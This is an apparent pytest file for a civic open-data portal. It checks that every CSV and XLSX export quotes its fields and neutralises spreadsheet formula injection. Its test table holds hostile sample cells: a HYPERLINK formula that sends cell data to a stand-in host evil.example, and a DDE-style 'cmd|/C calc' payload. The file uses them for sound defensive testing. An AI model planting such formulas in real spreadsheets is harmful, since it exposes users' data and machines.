"""Cells a spreadsheet would run as a formula (issue 15, finding 9), in every CSV and XLSX the
portal writes (opengov.spreadsheets): every field quoted, and an apostrophe before each place a
`,`- or `;`-reading Excel would start a formula, while ordinary bullet text stays as written.

The table below is the rule, both ways; the open-data tests check every dataset read back with
either separator, against an oracle written here from the documentation (docs/security.md),
not with the function under test."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from commitments.models import Comment
from consultations.models import ActionPlan
from opendata import bundle, datasets
from opengov.spreadsheets import csv_bytes, is_formula, neutralise, xlsx_bytes
from tests import factories

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'

# (text as stored, cell as written)
CASES = [
    # formulas: an apostrophe just before the place a spreadsheet would start computing
    ("x;=2+5", "x;'=2+5"),
    ("a,=1+1", "a,'=1+1"),
    ("a, =1+1", "a, '=1+1"),
    ('a,"=1+1"', 'a,"\'=1+1"'),
    (HYPERLINK, "'" + HYPERLINK),
    ("-2+3", "'-2+3"),
    ("+33 6 12", "'+33 6 12"),
    ("-A1", "'-A1"),
    ("+$B$2", "'+$B$2"),
    ("--1", "'--1"),
    ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
    ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("@A1", "'@A1"),
    ("- (1+1)", "'- (1+1)"),
    ('-TRUE&HYPERLINK("http://evil.example")', '\'-TRUE&HYPERLINK("http://evil.example")'),
    ("\t=1+1", "'\t'=1+1"),
    ("\tBonjour", "'\tBonjour"),
    ("\r=1+1", "'\r'=1+1"),
    ("Objectifs :\n=1+1", "Objectifs :\n'=1+1"),
    ("Budget 100, +20 % par an", "Budget 100, '+20 % par an"),
    ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
    (";=1", ";'=1"),
    # text: as written
    ("- Améliorer l'accès à l'information", "- Améliorer l'accès à l'information"),
    ("- bien-être pour tous", "- bien-être pour tous"),
    ("-Renforcer la participation", "-Renforcer la participation"),
    ("Objectifs :\n- Publier\n- Consulter", "Objectifs :\n- Publier\n- Consulter"),
    ("- تحسين الولوج إلى المعلومة", "- تحسين الولوج إلى المعلومة"),
    ("-تحسين الولوج", "-تحسين الولوج"),
    ("@ handle", "@ handle"),
    ("@mention", "@mention"),
    ("+ Note : voir l'annexe", "+ Note : voir l'annexe"),
    ("- Attention !", "- Attention !"),
    ("-", "-"),
    ("a, b; c", "a, b; c"),
    ("Texte normal", "Texte normal"),
    ("'=1+1", "'=1+1"),  # already neutral
    ("x;'=2+5", "x;'=2+5"),
    ("", ""),
]


@pytest.mark.parametrize(("text", "written"), CASES)
def test_neutralise_table(text, written):
    assert neutralise(text) == written
    assert neutralise(written) == written  # idempotent
    assert is_formula(text) == (text != written)


# --- an oracle written from the documentation, for what comes out ---------------------------

_FIELD_LEAD = ' \t\r\n"'
_AFTER_SIGN = re.compile(
    r"""[+\-@\uff0b\uff0d\uff20 ]*(?:[0-9.($"'={#\[!=\uff1d]"""
    r"""|\$?[A-Za-z]{1,3}\$?[0-9]"""
    r"""|.*(?<![\w.])[A-Za-z_][A-Za-z0-9_.]*\(|.*\||.*[\w'\]]![$A-Za-z])""",
    re.DOTALL,
)


_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def computes(field: str) -> bool:
    """Whether a spreadsheet would compute this field as read (after spaces and quotes); a
    number such as -5.00 is data, whatever its sign."""
    text = field.lstrip(_FIELD_LEAD).rstrip('"')
    if not text or text[0] == "'" or _NUMBER.fullmatch(text):
        return False
    if text[0] in "=\uff1d":
        return True
    return text[0] in "+-@\uff0b\uff0d\uff20" and bool(_AFTER_SIGN.match(text[1:]))


def fields(cell: str) -> list[str]:
    """The fields a reader splitting on any separator could make of the cell."""
    return re.split(r"[;,\t\r\n]", cell)


@pytest.mark.parametrize(("text", "written"), CASES)
def test_oracle_agrees_with_the_table(text, written):
    """The oracle is itself pinned: it finds the formulas of the table, and none once written."""
    assert any(computes(f) for f in fields(text)) or text[:1] in "\t\r" or text == written
    assert not any(computes(f) for f in fields(written))


def raw_fields(raw: str, delimiter: str) -> list[str]:
    """Every field the CSV module reads from `raw` with `delimiter`, split again at every
    separator inside it (a reader with the other separator)."""
    rows = csv.reader(io.StringIO(raw, newline=""), delimiter=delimiter)
    return [part for row in rows for cell in row for part in fields(cell)]


def assert_all_quoted(raw: str, delimiter: str) -> None:
    """Written again with every field quoted, the CSV is the same text."""
    rows = list(csv.reader(io.StringIO(raw, newline=""), delimiter=delimiter))
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=delimiter, quoting=csv.QUOTE_ALL).writerows(rows)
    assert out.getvalue() == raw


def assert_no_formula_in_any_reading(content: bytes) -> None:
    raw = content.decode("utf-8")
    assert raw.startswith("\ufeff")
    raw = raw[1:]
    for delimiter in (",", ";"):
        found = [f for f in raw_fields(raw, delimiter) if computes(f)]
        assert found == [], delimiter
    # And the raw text split naively, as a reader that ignores the quotes would.
    assert [f for f in re.split(r"[;,\r\n]", raw) if computes(f)] == []


def test_csv_quotes_every_field_and_neutralises_in_every_reading():
    rows = [["text", "number"], *[[text, -5] for text, _written in CASES], [None, 2.5]]
    for delimiter in (",", ";"):
        content = csv_bytes(rows, delimiter=delimiter)
        raw = content.decode("utf-8")[1:]
        assert_all_quoted(raw, delimiter)
        assert_no_formula_in_any_reading(content)
        table = list(csv.reader(io.StringIO(raw, newline=""), delimiter=delimiter))
        assert [row[0] for row in table[1:-1]] == [written for _text, written in CASES]
        assert {row[1] for row in table[1:-1]} == {"-5"}  # a number stays a number
        assert table[-1] == ["", "2.5"]


def test_xlsx_cells_are_strings_never_formulas():
    rows = [["text", "number"], *[[text, -5] for text, _written in CASES]]
    content = xlsx_bytes(rows, "cells")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = list(sheet.iter_rows(min_row=2))
    assert all(text.data_type == "s" for text, _number in cells if text.value is not None)
    assert all(number.data_type == "n" for _text, number in cells)
    # XML reads a carriage return back as a line feed.
    written = [written.replace("\r", "\n") for _text, written in CASES]
    assert [text.value or "" for text, _number in cells] == written
    assert {number.value for _text, number in cells} == {-5}


# --- every open-data CSV ------------------------------------------------------------------

HOSTILE = [text for text, written in CASES if text != written]
BULLETS = ["- Améliorer l'accès", "- تحسين الولوج", "@mention"]
SKIPPED_FIELDS = {"slug", "code", "reference", "email", "website", "language", "hidden_reason"}


def _texts_of(obj, texts: list[str]) -> dict:
    """Every free-text field of the object with one of `texts` (in turn)."""
    values = {}
    for field in obj._meta.concrete_fields:
        kind = field.get_internal_type()
        if kind not in ("CharField", "TextField") or field.choices or field.name in SKIPPED_FIELDS:
            continue
        text = texts[len(values) % len(texts)]
        values[field.name] = text[: field.max_length] if field.max_length else text
    return values


@pytest.fixture
def hostile_world(db):
    council = factories.CouncilFactory(slug="tableur", code="TAB01")
    plan = factories.ActionPlanFactory(council=council, stage=ActionPlan.Stage.IMPLEMENTATION)
    group = factories.WorkingGroupFactory(
        workshop=factories.WorkshopFactory(council=council, plan=plan)
    )
    proposal = factories.ProposalFactory(working_group=group)
    # Written in another language: its original wording is a free text too.
    commitment = factories.CommitmentFactory(
        plan=plan, reference="TAB-1", theme=group.theme, original_language="other"
    )
    milestone = factories.MilestoneFactory(commitment=commitment)
    indicator = factories.IndicatorFactory(commitment=commitment, baseline=-5)
    comment = Comment.objects.create(
        plan=plan,
        commitment=commitment,
        author_name="Auteur",
        email="auteur@example.org",
        body="Corps",
        language="fr",
        state=Comment.State.PUBLISHED,
        published_at=timezone.now(),
        consent_at=timezone.now(),
    )
    forum = factories.ForumFactory(council=council)
    member = factories.ForumMemberFactory(forum=forum, public=True)
    meeting = factories.ForumMeetingFactory(forum=forum, plan=plan)
    endorsement = factories.PlanEndorsementFactory(plan=plan, forum=forum, meeting=meeting)
    programme = factories.CouncilProgrammeFactory(council=council)
    update = factories.MilestoneUpdateFactory(milestone=milestone)
    value = factories.IndicatorValueFactory(indicator=indicator)
    objects = [council, plan, group.workshop, group, group.theme, proposal, commitment]
    objects += [milestone, indicator, comment, forum, member, meeting, endorsement]
    objects += [programme, update, value]
    for number, obj in enumerate(objects):
        texts = BULLETS + HOSTILE[number:] + HOSTILE[:number]
        type(obj).objects.filter(pk=obj.pk).update(**_texts_of(obj, texts))
    return plan


def test_every_open_data_csv_is_quoted_and_neutral_in_both_readings(client, hostile_world):
    assert (
        len(datasets.DATASETS) == 20
    )  # nine, three of the assessments, four of the forum, four of the follow-up
    seen = set()
    for name in datasets.DATASETS:
        response = client.get(reverse("opendata_dataset", args=[name, "csv"]))
        assert response.status_code == 200, name
        raw = response.content.decode("utf-8")[1:]
        assert_all_quoted(raw, ",")
        assert_no_formula_in_any_reading(response.content)
        seen |= {cell for row in csv.reader(io.StringIO(raw, newline="")) for cell in row}
    # The hostile texts came out, neutralised; the bullets as written.
    assert {neutralise(text) for text in HOSTILE if "\t" not in text and "\r" not in text} & seen
    assert set(BULLETS) <= seen
    decidim = client.get(reverse("results_decidim"), {"plan": hostile_world.pk})
    assert decidim.status_code == 200
    assert_all_quoted(decidim.content.decode("utf-8")[1:], ";")
    assert_no_formula_in_any_reading(decidim.content)


def test_open_data_zip_csvs_are_quoted_and_neutral(hostile_world):
    with zipfile.ZipFile(io.BytesIO(bundle.build_zip())) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                content = archive.read(name)
                delimiter = ";" if "decidim" in name else ","
                assert_all_quoted(content.decode("utf-8")[1:], delimiter)
                assert_no_formula_in_any_reading(content)


def test_progress_csv_is_quoted_and_neutral(client, hostile_world):
    plan = hostile_world
    url = reverse("commitments:progress_report_csv", args=[plan.council.slug, plan.start_year])
    response = client.get(url)
    assert response.status_code == 200
    assert_all_quoted(response.content.decode("utf-8")[1:], ",")
    assert_no_formula_in_any_reading(response.content)
